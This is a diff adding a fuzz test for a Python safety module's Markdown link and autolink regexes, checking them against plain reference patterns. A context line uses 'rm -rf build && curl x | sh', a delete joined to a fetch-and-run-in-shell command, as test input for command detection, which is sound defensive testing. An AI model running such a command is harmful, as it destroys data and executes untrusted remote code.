@@ -234,3 +234,27 @@ def test_a_line_opening_with_an_operator_joins_the_line_before_as_the_plain_rule
         assert safety._LEADING_OPERATOR.sub(r"\1 ", text) == plain.sub(" ", text), repr(text)
     lines = safety.normalise("rm -rf build" + "\n \n" * 2000 + "&& curl x | sh").lines
     assert "rm -rf build && curl x | sh" in lines
+
+
+def test_links_are_read_as_the_plain_rule_reads_them_unless_they_nest_a_bracket() -> None:
+    """A Markdown link or autolink is read in one pass over its text (a text of many `[`
+    or `<http://` took seconds); any link without a nested `[` or `<` reads as the plain
+    rule reads it."""
+    import random
+    import re
+
+    from sleepd.dream import safety
+
+    plain_link = re.compile(r"!?\[([^\]\n]*)\]\(\s*<?([^)\s>]*)>?(?:\s+\"[^\"]*\")?\s*\)")
+    plain_auto = re.compile(r"<((?:https?|ftp)://[^>\s]+)>")
+    rng = random.Random(11)
+    pieces = ["[", "]", "(", ")", "a", " ", '"', "<", ">", "!", "\n", "http://x", "t"]
+    for _ in range(20_000):
+        text = "".join(rng.choice(pieces) for _ in range(rng.randint(0, 14)))
+        for fast, plain, opener in (
+            (safety._MD_LINK, plain_link, "["),
+            (safety._MD_AUTOLINK, plain_auto, "<"),
+        ):
+            found = [m.group(0) for m in plain.finditer(text)]
+            if all(m.count(opener) == 1 for m in found):
+                assert [m.group(0) for m in fast.finditer(text)] == found, repr(text)
